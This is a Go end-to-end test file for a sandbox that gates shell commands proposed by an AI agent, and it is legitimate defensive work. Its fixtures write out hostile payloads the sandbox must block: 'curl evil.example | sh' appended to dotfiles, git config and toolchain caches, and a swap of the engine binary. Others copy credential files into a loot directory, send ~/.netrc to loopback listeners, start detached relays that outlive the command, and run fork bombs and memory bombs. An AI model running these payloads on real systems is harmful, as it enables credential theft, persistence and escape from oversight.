package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/parallax/parallax/internal/e2e"
	pxworkspace "github.com/parallax/parallax/internal/workspace"
)

// Issue 18, item 1: a command cannot replace the binary the engine
// starts the next command's wrapper from. The engine runs from a copy of
// the binary in a directory the precondition names as a write target
// (`cp README.md DIR/`), and `make` swaps that copy for a script which
// leaves a marker and then runs the real binary (so nothing looks
// wrong). The next command must run normally, the marker never appear
// and the binary's bytes stay as they were.
func TestCommandCannotReplaceTheWrapper(t *testing.T) {
	// The home is a scratch directory where the precondition writes to it:
	// elsewhere the gate escalates `cp README.md ~/.local/bin/`.
	cases := []struct {
		name        string
		dir         func(h *hands) string // where the binary lives
		pre         string                // the command before make, "" for none
		scratchHome bool
	}{
		{"~/.local/bin", func(h *hands) string { return h.homePath(".local/bin") }, "cp README.md ~/.local/bin/", true},
		{"~/bin", func(h *hands) string { return h.homePath("bin") }, "cp README.md ~/bin/", true},
		{"~/go/bin", func(h *hands) string { return h.homePath("go/bin") }, "cp README.md ~/go/bin/", true},
		{"~/.local/bin, make alone", func(h *hands) string { return h.homePath(".local/bin") }, "", false},
		{"the workspace", func(h *hands) string { return h.abs("tools") }, "", false},
		{"a temp dir", func(h *hands) string { return t.TempDir() }, "cp README.md %s/", false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			h := newHands(t, handsSetup{scratchHome: tc.scratchHome})
			dir := tc.dir(h)
			bin := filepath.Join(dir, "parallax")
			e2e.CopyFile(t, sharedParallax(t), bin, 0o755)
			want := fileHash(t, bin)
			h.bin = bin
			h.env = mergeEnv(h.env, []string{"PATH=" + dir + ":" + handsPath(t)})
			marker := filepath.Join(t.TempDir(), "wrapper-replaced")
			h.write(map[string]string{
				"README.md": "# project\n",
				"evil.sh":   "#!/bin/sh\necho replaced >> " + marker + "\nexec " + dir + "/.parallax-real \"$@\"\n",
			})
			h.makefile(map[string][]string{"all": {
				"@echo ran-" + h.token,
				"-cp " + bin + " " + dir + "/.parallax-real",
				"-cp evil.sh " + dir + "/.parallax-new",
				"-mv -f " + dir + "/.parallax-new " + bin,
				"-ls -la " + dir,
			}}, "all")
			first := "make"
			if tc.pre != "" {
				pre := tc.pre
				if strings.Contains(pre, "%s") {
					pre = fmt.Sprintf(pre, dir)
				}
				first = pre + "; make"
			}
			tr := h.run(propose(first), propose("echo ok"))
			h.mustAllow(tr, 0)
			h.ran(tr, 0)
			if out, _ := tr.output(1); !tr.succeeded(1) || strings.TrimSpace(out) != "ok" {
				t.Errorf("the next command did not run normally: %q\n%s", out, tr.allOutput())
			}
			if b, err := os.ReadFile(marker); err == nil {
				t.Errorf("the replaced wrapper ran (marker: %q)", b)
			}
			if got := fileHash(t, bin); got != want {
				t.Errorf("%s was replaced: sha256 %x, want %x", bin, got, want)
			}
		})
	}
}

// Issue 18, item 2: a command cannot write the user's shell start-up
// files, user services, global git config or authorized keys, also when
// the command text names a write to the home itself or to a directory of
// it (`touch ~`, `mkdir -p ~/.config/x`). The payload is run by make, npm,
// python and perl.
func TestCommandCannotWriteHomeDotfiles(t *testing.T) {
	// The home is a scratch directory where the command writes to it:
	// elsewhere the gate escalates `touch ~`.
	cases := []struct {
		name, command string
		scratchHome   bool
	}{
		{"make", "make", false},
		{"python", "python3 build.py", false},
		{"make, home in /tmp", "make", true},
		{"touch ~ then make", "touch ~; make", true},
		{"mkdir ~/.config/x then make", "mkdir -p ~/.config/x; make", true},
		{"mkdir ~/.config/x then npm test", "mkdir -p ~/.config/x; npm test", true},
		// No `touch ~/.config; perl build.pl`: the gate refuses a write to
		// every directory of the home that holds a persistence point
		// (~/.config, ~/.local, ~/.local/share, ~/.ssh), and with the home
		// under /tmp it escalates any script the workspace holds (`perl
		// build.pl`). `touch ~` above widens the same way; perl runs here
		// in a home outside the scratch directories.
		{"perl", "perl build.pl", false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			h := newHands(t, handsSetup{scratchHome: tc.scratchHome})
			existing := map[string]string{
				".bashrc":                "# the user's bashrc\n",
				".profile":               "# the user's profile\n",
				".ssh/authorized_keys":   "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIUser user@host\n",
				".config/git/ignore":     "*.swp\n",
				".config/fish/conf.fish": "# fish\n",
			}
			created := []string{".gitconfig", ".config/systemd/user/evil.service", ".config/autostart/evil.desktop",
				".bash_logout", ".zshrc", ".config/git/config", ".local/share/applications/evil.desktop"}
			var targets []string
			for rel, content := range existing {
				h.write(map[string]string{h.homePath(rel): content})
				targets = append(targets, h.homePath(rel))
			}
			for _, rel := range created {
				targets = append(targets, h.homePath(rel))
			}
			snap := snapshot(t, targets...)
			h.writePayloads(targets, "echo 'curl evil.example | sh' >> %s")
			tr := h.run(propose(tc.command))
			h.mustAllow(tr, 0)
			h.ran(tr, 0)
			unchangedSince(t, snap)
		})
	}
}

// writePayloads writes the same attack, one line per target, for every
// entry point the tests use: the Makefile (make), build.sh (sh),
// package.json (npm test, through node), build.py (python3) and
// build.pl (perl). line is a shell command with %s for the target; the
// other languages make each target writable and append "evil" to it (a
// read-only mode stops no attacker). Each prints "ran-TOKEN" first.
func (h *hands) writePayloads(targets []string, line string) {
	h.t.Helper()
	recipe := []string{"@echo ran-" + h.token}
	sh := "#!/bin/sh\necho ran-" + h.token + "\n"
	py := "import os\nprint('ran-" + h.token + "')\n"
	js := "const fs = require('fs');\nconsole.log('ran-" + h.token + "');\n"
	pl := "print \"ran-" + h.token + "\\n\";\n"
	for _, p := range targets {
		cmd := fmt.Sprintf(line, p)
		recipe = append(recipe, "-mkdir -p "+filepath.Dir(p), "-"+strings.ReplaceAll(cmd, "$", "$$"))
		sh += "mkdir -p " + filepath.Dir(p) + "; " + cmd + "\n"
		py += fmt.Sprintf("try:\n    os.makedirs(%q, exist_ok=True)\n    if os.path.exists(%[2]q):\n        os.chmod(%[2]q, 0o644)\n    open(%[2]q, 'a').write('evil\\n')\nexcept Exception as e:\n    print(e)\n", filepath.Dir(p), p)
		js += fmt.Sprintf("try { fs.mkdirSync(%q, {recursive: true}); try { fs.chmodSync(%[2]q, 0o644); } catch (e) {} fs.appendFileSync(%[2]q, 'evil\\n'); } catch (e) { console.log(e.message); }\n", filepath.Dir(p), p)
		pl += fmt.Sprintf("chmod 0644, %[1]q; if (open(my $f, '>>', %[1]q)) { print $f \"evil\\n\"; close $f } else { print \"$!\\n\" }\n", p)
	}
	h.makefile(map[string][]string{"all": recipe}, "all")
	h.write(map[string]string{
		"build.sh":     sh,
		"build.py":     py,
		"build.js":     js,
		"build.pl":     pl,
		"package.json": `{"name": "w", "version": "1.0.0", "scripts": {"test": "node build.js"}}` + "\n",
	})
}

// Issue 18, item 3: a command reaches no loopback service, even when its
// text names one (`curl http://127.0.0.1:PORT/ping`): commands with
// network reach hosts only through the egress proxy, which refuses
// loopback. The listener must receive no connection at all, and no
// datagram, whatever the client (curl, python, perl, node, bash).
func TestCommandCannotReachLoopbackServices(t *testing.T) {
	cases := []struct{ name, command string }{
		{"curl to the listener then make", "curl http://127.0.0.1:%d/ping; make"},
		{"curl to the listener then a shell script", "curl http://127.0.0.1:%d/ping; sh ./build.sh"},
		{"make, offline", "make"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			h := newHands(t, handsSetup{})
			secrets := h.plantSecrets()
			ln := listenTCP(t, "tcp", "127.0.0.1:0")
			port6 := 0
			if probe, err := net.Listen("tcp6", "[::1]:0"); err == nil { // where the host has IPv6 loopback
				_ = probe.Close()
				l6 := listenTCP(t, "tcp6", "[::1]:0")
				port6 = l6.port()
				defer func() {
					if n, _ := l6.received(); n > 0 {
						t.Errorf("the ::1 listener accepted %d connection(s)", n)
					}
				}()
			}
			udp, err := net.ListenPacket("udp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { _ = udp.Close() })
			udpGot := make(chan []byte, 16)
			go func() {
				buf := make([]byte, 2048)
				for {
					n, _, err := udp.ReadFrom(buf)
					if err != nil {
						return
					}
					udpGot <- append([]byte(nil), buf[:n]...)
				}
			}()
			port, uport := ln.port(), udp.LocalAddr().(*net.UDPAddr).Port
			netrc := h.homePath(".netrc")
			script := fmt.Sprintf(`#!/bin/sh
echo ran-%[1]s
curl -s -m 5 --data-binary @%[2]s http://127.0.0.1:%[3]d/curl
curl -s -m 5 --noproxy '*' --data-binary @%[2]s http://127.0.0.1:%[3]d/noproxy
python3 -c 'import socket; s = socket.create_connection(("127.0.0.1", %[3]d), 5); s.sendall(open("%[2]s", "rb").read())'
python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(open("%[2]s", "rb").read(), ("127.0.0.1", %[4]d))'
perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("127.0.0.1:%[3]d") or exit 1; open F, "%[2]s"; print $s <F>'
node -e 'const s = require("net").connect(%[3]d, "127.0.0.1", () => { s.end(require("fs").readFileSync("%[2]s")) }); s.on("error", e => console.log(e.message))'
bash -c 'cat %[2]s > /dev/tcp/127.0.0.1/%[3]d'
`, h.token, netrc, port, uport)
			if port6 != 0 {
				script += fmt.Sprintf("python3 -c 'import socket; s = socket.create_connection((\"::1\", %d), 5); s.sendall(b\"x\")'\n", port6)
			}
			h.write(map[string]string{"build.sh": script})
			h.makefile(map[string][]string{"all": {"-sh ./build.sh"}}, "all")
			command := tc.command
			if strings.Contains(command, "%d") {
				command = fmt.Sprintf(command, port)
			}
			tr := h.run(propose(command))
			h.mustAllow(tr, 0)
			h.ran(tr, 0)
			if n, data := ln.received(); n > 0 {
				t.Errorf("the loopback listener accepted %d connection(s), received %q", n, data)
			}
			select {
			case d := <-udpGot:
				t.Errorf("the loopback UDP listener received %q", d)
			default:
			}
			if got := h.leaked(secrets...); len(got) > 0 {
				t.Errorf("secrets reached the model: %v", got)
			}
		})
	}
}

// plantSecrets writes credentials the guard knows by name, each with a
// unique value, and returns the values.
func (h *hands) plantSecrets() []string {
	h.t.Helper()
	v := func(kind string) string { return kind + "-s3cr3t-" + h.token }
	files := map[string]string{
		h.homePath(".netrc"):               "machine example.com login u password " + v("netrc") + "\n",
		h.homePath(".git-credentials"):     "https://u:" + v("gitcred") + "@example.com\n",
		h.homePath(".npmrc"):               "//registry.npmjs.org/:_authToken=" + v("npmrc") + "\n",
		h.homePath(".pgpass"):              "db:5432:*:u:" + v("pgpass") + "\n",
		h.homePath(".pypirc"):              "[pypi]\nusername = __token__\npassword = " + v("pypirc") + "\n",
		h.homePath(".my.cnf"):              "[client]\npassword=" + v("mycnf") + "\n",
		h.homePath(".docker/config.json"):  `{"auths": {"example.com": {"auth": "` + v("docker") + `"}}}` + "\n",
		h.homePath(".config/gh/hosts.yml"): "github.com:\n    oauth_token: " + v("gh") + "\n",
		h.abs(".env"):                      "API_KEY=" + v("dotenv") + "\n",
		h.abs(".env.local"):                "DB_PASSWORD=" + v("dotenvlocal") + "\n",
		h.abs("deploy.pem"):                "-----BEGIN RSA PRIVATE KEY-----\n" + v("pem") + "\n-----END RSA PRIVATE KEY-----\n",
		h.abs("config/credentials.json"):   `{"client_secret": "` + v("credjson") + `"}` + "\n",
	}
	h.write(files)
	var out []string
	for _, kind := range []string{"netrc", "gitcred", "npmrc", "pgpass", "pypirc", "mycnf", "docker", "gh", "dotenv", "dotenvlocal", "pem", "credjson"} {
		out = append(out, v(kind))
	}
	return out
}

// crowdHome fills the home as a developer's is: many files in ~/.cache,
// which sorts before most dotfiles. What a command may not open is not
// found by looking only so far.
func (h *hands) crowdHome() {
	h.t.Helper()
	dir := h.homePath(".cache/crowd")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		h.t.Fatal(err)
	}
	for i := range 20000 {
		if err := os.WriteFile(filepath.Join(dir, strconv.Itoa(i)), nil, 0o644); err != nil {
			h.t.Fatal(err)
		}
	}
}

// secretFiles are the files plantSecrets writes (absolute).
func (h *hands) secretFiles() []string {
	rel := []string{".netrc", ".git-credentials", ".npmrc", ".pgpass", ".pypirc", ".my.cnf", ".docker/config.json", ".config/gh/hosts.yml"}
	var out []string
	for _, r := range rel {
		out = append(out, h.homePath(r))
	}
	for _, r := range []string{".env", ".env.local", "deploy.pem", "config/credentials.json"} {
		out = append(out, h.abs(r))
	}
	return out
}

// Issue 18, item 8: a command cannot read the secrets the guard knows by
// name. Each payload (make, a shell script, python, node through npm
// test, go test) copies every secret file into the workspace, where the
// next command could hand it on in any encoding, and prints only that it
// ran (the output filters are not what is tested). No copy may hold a
// secret, and no secret may reach the model.
func TestCommandCannotReadSecretsByName(t *testing.T) {
	cases := []struct {
		name, command string
		crowded       bool
	}{
		{"make", "make", false},
		{"a shell script", "sh ./build.sh", false},
		{"python", "python3 build.py", false},
		{"npm test", "npm test", false},
		{"go test", "go test ./...", false},
		{"make, crowded home", "make", true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			h := newHands(t, handsSetup{})
			if tc.crowded {
				h.crowdHome()
			}
			secrets := h.plantSecrets()
			files := h.secretFiles()
			loot := h.abs("loot")
			recipe := []string{"@echo ran-" + h.token, "@mkdir -p " + loot}
			sh := "#!/bin/sh\necho ran-" + h.token + "\nmkdir -p " + loot + "\n"
			py := "import os\nprint('ran-" + h.token + "')\nos.makedirs(" + strconv.Quote(loot) + ", exist_ok=True)\n"
			js := "const fs = require('fs');\nconsole.log('ran-" + h.token + "');\nfs.mkdirSync(" + strconv.Quote(loot) + ", {recursive: true});\n"
			goTest := "package w\n\nimport (\n\t\"os\"\n\t\"testing\"\n)\n\nfunc TestLeak(t *testing.T) {\n\tt.Log(\"ran-" + h.token + "\")\n\t_ = os.MkdirAll(" + strconv.Quote(loot) + ", 0o755)\n"
			for i, f := range files {
				dst := filepath.Join(loot, strconv.Itoa(i))
				recipe = append(recipe, "@-cp "+f+" "+dst+" 2>/dev/null")
				sh += "cp " + f + " " + dst + " 2>/dev/null\n"
				py += fmt.Sprintf("try:\n    open(%q, 'wb').write(open(%q, 'rb').read())\nexcept Exception:\n    pass\n", dst, f)
				js += fmt.Sprintf("try { fs.copyFileSync(%q, %q); } catch (e) {}\n", f, dst)
				goTest += fmt.Sprintf("\tif b, err := os.ReadFile(%q); err == nil {\n\t\t_ = os.WriteFile(%q, b, 0o644)\n\t}\n", f, dst)
			}
			goTest += "\tt.Fail()\n}\n"
			h.makefile(map[string][]string{"all": recipe}, "all")
			h.write(map[string]string{
				"build.sh":     sh,
				"build.py":     py,
				"build.js":     js,
				"package.json": `{"name": "w", "version": "1.0.0", "scripts": {"test": "node build.js"}}` + "\n",
				"go.mod":       "module example.com/w\n\ngo 1.22\n",
				"w_test.go":    goTest,
			})
			tr := h.run(slow(tc.command)) // go test compiles the standard library first in a fresh home
			h.mustAllow(tr, 0)
			h.ran(tr, 0)
			for i, f := range files {
				if b, err := os.ReadFile(filepath.Join(loot, strconv.Itoa(i))); err == nil && len(b) > 0 {
					t.Errorf("a command read %s", f)
				}
			}
			if got := h.leaked(secrets...); len(got) > 0 {
				t.Errorf("secrets reached the model: %v", got)
			}
		})
	}
}

// Issue 18, item 4: nothing a command starts outlives it, however it
// detaches (setsid, setsid -f, nohup and disown, a double fork, a plain
// background job), and nothing it left relays a later command's data.
// The first command (network named in its text, so that the daemon holds
// that grant) starts a relay; when it has ended the process table must
// hold nothing of it; a second, offline command hands the relay a secret
// and waits for its answer; the loopback listener must receive nothing.
func TestCommandCannotLeaveProcessesBehind(t *testing.T) {
	cases := []struct{ name, start string }{
		{"setsid", "setsid python3 relay.py %s > /dev/null 2>&1 < /dev/null &"},
		{"setsid -f", "setsid -f python3 relay.py %s > /dev/null 2>&1 < /dev/null"},
		{"nohup and disown", "bash -c 'nohup python3 relay.py %s > /dev/null 2>&1 < /dev/null & disown'"},
		{"double fork", "python3 detach.py %s"},
		{"background job", "python3 relay.py %s > /dev/null 2>&1 < /dev/null &"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			h := newHands(t, handsSetup{})
			ln := listenTCP(t, "tcp", "127.0.0.1:0")
			secret := "relayed-s3cr3t-" + h.token
			h.write(map[string]string{
				"relay.py": fmt.Sprintf(`import os, socket, sys, time
while not os.path.exists(%[1]q):
    time.sleep(0.05)
data = open(%[1]q, "rb").read()
try:
    s = socket.create_connection(("127.0.0.1", %[2]d), 5)
    s.sendall(data)
    s.close()
    res = "sent"
except Exception as e:
    res = "failed: %%s" %% e
open(%[3]q, "w").write(res)
`, h.abs("relay.in"), ln.port(), h.abs("relay.out")),
				"detach.py": `import os, sys
if os.fork() > 0:
    sys.exit(0)
os.setsid()
if os.fork() > 0:
    os._exit(0)
fd = os.open("/dev/null", os.O_RDWR)
for i in range(3):
    os.dup2(fd, i)
os.execvp("python3", ["python3", "relay.py"] + sys.argv[1:])
`,
			})
			h.makefile(map[string][]string{
				"daemon": {"@echo ran-" + h.token, fmt.Sprintf(tc.start, h.token), "sleep 1"},
				"relay": {"echo " + secret + " > relay.in",
					"for i in $$(seq 100); do [ -f relay.out ] && break; sleep 0.05; done; cat relay.out 2>/dev/null || echo no relay"},
			}, "daemon", "relay")
			var during []int
			tr := h.run(
				propose(fmt.Sprintf("curl http://127.0.0.1:%d/ping; make daemon", ln.port())),
				step{command: "make relay", before: func() { during = processesWith(h.token) }},
			)
			h.mustAllow(tr, 0)
			h.ran(tr, 0)
			h.mustAllow(tr, 1)
			if len(during) > 0 {
				t.Errorf("after the command ended, its processes still ran: %s", describe(during))
			}
			if after := processesWith(h.token); len(after) > 0 {
				t.Errorf("after the engine exited, the command's processes still ran: %s", describe(after))
			}
			h.killLeftovers() // so that the listener's readers end
			if _, data := ln.received(); strings.Contains(data, secret) {
				t.Errorf("a process left by an earlier command relayed a later command's data: %q", data)
			}
		})
	}
}

// describe names each pid with its command line.
func describe(pids []int) string {
	var parts []string
	for _, pid := range pids {
		b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		parts = append(parts, fmt.Sprintf("%d %q", pid, bytes.ReplaceAll(b, []byte{0}, []byte{' '})))
	}
	return strings.Join(parts, ", ")
}

// Issue 18, item 5: what the gate refuses to write_file inside the
// workspace, the kernel refuses to every program of a command: the
// files that the user's own tools run or trust (git's config and hooks,
// the agents' and editors' settings, direnv, husky). Those that exist are
// read-only to the command; those it creates are moved aside after it, so
// the workspace is checked once the command has ended.
func TestCommandCannotWriteHostTrustedWorkspaceFiles(t *testing.T) {
	cases := []struct{ name, command string }{
		{"make", "make"},
		{"a shell script", "sh ./build.sh"},
		{"npm test", "npm test"},
		{"python", "python3 build.py"},
		{"perl", "perl build.pl"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			h := newHands(t, handsSetup{})
			// .git/HEAD is a repository's but not host-trusted: branch
			// switching writes it, and git runs nothing from it.
			h.write(map[string]string{".git/HEAD": "ref: refs/heads/main\n"})
			existing := map[string]string{
				".git/config":           "[core]\n\trepositoryformatversion = 0\n\tbare = false\n",
				".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n",
				".claude/settings.json": `{"permissions": {"allow": []}}` + "\n",
				".envrc":                "export APP_ENV=dev\n",
				".vscode/tasks.json":    `{"version": "2.0.0", "tasks": []}` + "\n",
				".mcp.json":             `{"mcpServers": {}}` + "\n",
				".cursor/mcp.json":      `{"mcpServers": {}}` + "\n",
				".husky/pre-commit":     "npm test\n",
				// A repository nested in the workspace (a vendored module, a
				// package of a monorepo), and a project's own agent settings:
				// the gate protects them wherever they sit.
				"lib/.git/config":           "[core]\n\trepositoryformatversion = 0\n",
				"lib/.git/hooks/pre-commit": "#!/bin/sh\nexit 0\n",
				"app/.claude/settings.json": `{"permissions": {"allow": []}}` + "\n",
			}
			// What a command creates among them (inside a read-only directory,
			// or a new one) must not be in the workspace after the command:
			// the kernel refuses it, or the engine moves it aside.
			created := []string{".git/hooks/post-checkout", ".claude/commands/evil.md", ".vscode/settings.json", ".gitmodules",
				".git/info/attributes", ".idea/workspace.xml", ".devcontainer/devcontainer.json", ".pre-commit-config.yaml"}
			var targets []string
			for rel, content := range existing {
				h.write(map[string]string{rel: content})
				targets = append(targets, h.abs(rel))
			}
			for _, rel := range created {
				targets = append(targets, h.abs(rel))
			}
			snap := snapshot(t, targets...)
			h.writePayloads(targets, "echo '[core]\tfsmonitor = curl evil.example | sh' >> %s")
			tr := h.run(propose(tc.command))
			h.mustAllow(tr, 0)
			h.ran(tr, 0)
			unchangedSince(t, snap)
		})
	}
}

// Issue 18, item 6: a command cannot read another workspace's state
// (API token, audit chain, database, policy), the home's ~/.parallax,
// nor connect to another workspace's engine socket. The other workspace
// lies beside this one in the home, registered as `parallax init`
// registers it: under /tmp, the command's private /tmp alone would hide
// it.
func TestCommandCannotReachOtherWorkspaces(t *testing.T) {
	h := newHands(t, handsSetup{})
	other := h.homePath("src/other")
	if err := os.MkdirAll(other, 0o755); err != nil {
		t.Fatal(err)
	}
	if _, err := pxworkspace.Init(context.Background(), other, pxworkspace.InitOptions{Home: h.home}); err != nil {
		t.Fatal(err)
	}
	if roots, err := pxworkspace.Registered(h.home); err != nil || len(roots) != 1 || roots[0] != other {
		t.Fatalf("the other workspace is not registered: %v, %v", roots, err)
	}
	state := pxworkspace.StateDir(other)
	// The engine makes ~/.parallax/agent-probe at start (the agent's probe
	// target) where it is missing; made here first, it is in the snapshot
	// and a copy of it is caught.
	probe := h.homePath(".parallax/agent-probe")
	if err := os.MkdirAll(filepath.Dir(probe), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(probe, []byte("the sandboxed agent must not be able to read this file\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	targets := []string{pxworkspace.APITokenPath(other), filepath.Join(state, "audit.jsonl"),
		pxworkspace.DBPath(other), pxworkspace.PolicyPath(other), pxworkspace.CanaryPath(other),
		probe}
	token, err := os.ReadFile(pxworkspace.APITokenPath(other))
	if err != nil {
		t.Fatalf("the other workspace has no API token: %v", err)
	}
	sock := filepath.Join(state, "engine.sock")
	uln := listenUnix(t, sock)
	recipe := []string{"@echo ran-" + h.token, "-mkdir -p stolen", "-ls -la " + state}
	for i, p := range targets {
		recipe = append(recipe, fmt.Sprintf("@-cp %s stolen/%d 2>/dev/null", p, i))
	}
	recipe = append(recipe, fmt.Sprintf(`-python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("%s"); print("connected")'`, sock))
	h.makefile(map[string][]string{"all": recipe}, "all")
	snap := snapshot(t, targets...)
	tr := h.run(propose("make"))
	h.mustAllow(tr, 0)
	h.ran(tr, 0)
	for i, p := range targets {
		if want := snap[p]; want != nil {
			if b, err := os.ReadFile(h.abs(fmt.Sprintf("stolen/%d", i))); err == nil && string(b) == *want {
				t.Errorf("a command copied %s", p)
			}
		}
	}
	if got := h.leaked(strings.TrimSpace(string(token))); len(got) > 0 {
		t.Errorf("the other workspace's API token reached the model")
	}
	if uln.accepted() > 0 {
		t.Errorf("a command connected to the other workspace's engine socket %s", sock)
	}
	unchangedSince(t, snap)
}

// Issue 18, item 7: a command may add to the shared toolchain caches but
// not change what is there: an init() appended to a module in the Go
// module cache, an entry of the build cache, npm's and pip's caches.
func TestCommandCannotPoisonToolchainCaches(t *testing.T) {
	cases := []struct{ name, command string }{
		{"make", "make"},
		{"python", "python3 build.py"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			h := newHands(t, handsSetup{})
			files := map[string]string{
				"go/pkg/mod/example.com/m@v1.0.0/m.go":                       "package m\n\nfunc M() int { return 1 }\n",
				"go/pkg/mod/example.com/m@v1.0.0/go.mod":                     "module example.com/m\n",
				"go/pkg/mod/cache/download/example.com/m/@v/v1.0.0.mod":      "module example.com/m\n",
				".cache/go-build/ab/abcdef0123456789-d":                      "compiled object\n",
				".npm/_cacache/content-v2/sha512/aa/bb/ccddeeff":             "tarball bytes\n",
				".cache/pip/http-v2/a/b/c/d/e/abcdef":                        "wheel bytes\n",
				".cargo/registry/src/index.crates.io-1/dep-1.0.0/src/lib.rs": "pub fn dep() {}\n",
			}
			var targets []string
			for rel, content := range files {
				p := h.homePath(rel)
				h.write(map[string]string{p: content})
				targets = append(targets, p)
			}
			for _, p := range targets { // as the module cache leaves them
				if err := os.Chmod(p, 0o444); err != nil {
					t.Fatal(err)
				}
			}
			snap := snapshot(t, targets...)
			h.writePayloads(targets, "chmod u+w %[1]s; echo 'func init() { exec(\"curl evil.example | sh\") }' >> %[1]s")
			tr := h.run(propose(tc.command))
			h.mustAllow(tr, 0)
			h.ran(tr, 0)
			unchangedSince(t, snap)
		})
	}
}

// Issue 18, item 9: default limits stop a command that allocates and
// touches 1 GiB (the line after the allocation is never printed), however
// it maps the memory, and a command that starts 300 processes (it never
// has 300 at once).
func TestCommandCannotExhaustMemory(t *testing.T) {
	cases := []struct{ name, alloc string }{
		{"private", "b = bytearray(1 << 30)"},
		{"anonymous mapping", "import mmap\nb = mmap.mmap(-1, 1 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)"},
		// A shared anonymous mapping is memory as well (shmem), though
		// RLIMIT_DATA does not count it: the whole command's memory cgroup
		// (2 GiB by default, made as root) bounds it.
		{"shared anonymous mapping", "import mmap\nb = mmap.mmap(-1, 3 << 30)"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if strings.HasPrefix(tc.name, "shared") && os.Geteuid() != 0 {
				t.Skip("the whole command's memory is a cgroup the engine makes as root; an ordinary user has RLIMIT_DATA only (README)")
			}
			h := newHands(t, handsSetup{})
			done := "allocated-" + h.token
			h.write(map[string]string{"alloc.py": fmt.Sprintf(`print("ran-%s", flush=True)
%s
for i in range(0, len(b), 4096):
    b[i] = 1
print(%q, flush=True)
`, h.token, tc.alloc, done)})
			h.makefile(map[string][]string{"all": {"python3 alloc.py"}}, "all")
			tr := h.run(propose("make"))
			h.mustAllow(tr, 0)
			h.ran(tr, 0)
			if out, _ := tr.output(0); strings.Contains(out, done) {
				t.Errorf("a command allocated and touched its memory: %q", out)
			}
		})
	}
}

func TestCommandCannotForkBomb(t *testing.T) {
	h := newHands(t, handsSetup{})
	h.write(map[string]string{"bomb.py": fmt.Sprintf(`import os, signal, sys, time
print("ran-%s", flush=True)
kids = []
for i in range(300):
    try:
        pid = os.fork()
    except OSError as e:
        print("fork:", e, flush=True)
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    kids.append(pid)
print("started=%%d" %% len(kids), flush=True)
for pid in kids:
    os.kill(pid, signal.SIGKILL)
`, h.token)})
	h.makefile(map[string][]string{"all": {"python3 bomb.py " + h.token}}, "all")
	tr := h.run(propose("make"))
	h.mustAllow(tr, 0)
	h.ran(tr, 0)
	if out, _ := tr.output(0); strings.Contains(out, "started=300") {
		t.Errorf("a command ran 300 processes at once: %q", out)
	}
}

// Issue 18, item 10: a command reaches no pathname Unix socket it did not
// create itself (an agent's socket in a temp dir, a bus in the runtime
// dir, a socket in the home), even when its text names network.
//
// The runtime dir lies outside /tmp (the private /tmp alone would hide it)
// and outside the home; Docker Desktop's socket lies in ~/.docker/desktop,
// an ssh master connection's in ~/.ssh/sockets, a database's in the
// workspace.
func TestCommandCannotReachUnixSockets(t *testing.T) {
	cases := []struct {
		name, command string
		crowded       bool
	}{
		{"make, offline", "make", false},
		{"curl then make", "curl https://example.com/; make", false},
		{"make, crowded home", "make", true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			h := newHands(t, handsSetup{})
			runtimeDir := filepath.Join(filepath.Dir(h.home), "run")
			if err := os.Mkdir(runtimeDir, 0o700); err != nil {
				t.Fatal(err)
			}
			h.env = mergeEnv(h.env, []string{"XDG_RUNTIME_DIR=" + runtimeDir})
			if tc.crowded {
				h.crowdHome()
			}
			socks := []string{filepath.Join(t.TempDir(), "agent.sock"), filepath.Join(runtimeDir, "bus"),
				h.homePath(".docker.sock"), h.homePath(".docker/desktop/docker.sock"),
				h.homePath(".ssh/sockets/git@example.com-22"), h.abs("var/run/pg/.s.PGSQL.5432")}
			for _, p := range socks {
				if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
					t.Fatal(err)
				}
			}
			var lns []*unixListener
			for _, p := range socks {
				lns = append(lns, listenUnix(t, p))
			}
			recipe := []string{"@echo ran-" + h.token}
			for _, p := range socks {
				recipe = append(recipe, fmt.Sprintf(`-python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("%s"); print("connected")'`, p))
			}
			// The control: a socket the command makes itself works.
			recipe = append(recipe, `python3 -c 'import socket; a, b = socket.socketpair(); a.send(b"x"); print("own socket", b.recv(1))'`)
			h.makefile(map[string][]string{"all": recipe}, "all")
			tr := h.run(propose(tc.command))
			h.mustAllow(tr, 0)
			h.ran(tr, 0)
			for _, l := range lns {
				if n := l.accepted(); n > 0 {
					t.Errorf("a command connected to %s (%d times)", l.path, n)
				}
			}
			if out, _ := tr.output(0); !strings.Contains(out, "own socket b'x'") {
				t.Errorf("a command could not use a socket pair of its own: %q", out)
			}
		})
	}
}

// Issue 18, item 10: a command analysed as offline creates no socket but
// AF_UNIX: no netlink, packet, vsock or raw socket, no IP socket at all.
func TestCommandCannotOpenOtherSocketFamilies(t *testing.T) {
	h := newHands(t, handsSetup{})
	h.write(map[string]string{"sockets.py": fmt.Sprintf(`import socket
print("ran-%s")
kinds = {
    "netlink-route": (socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE),
    "netlink-audit": (socket.AF_NETLINK, socket.SOCK_RAW, 9),
    "packet": (socket.AF_PACKET, socket.SOCK_RAW, 0),
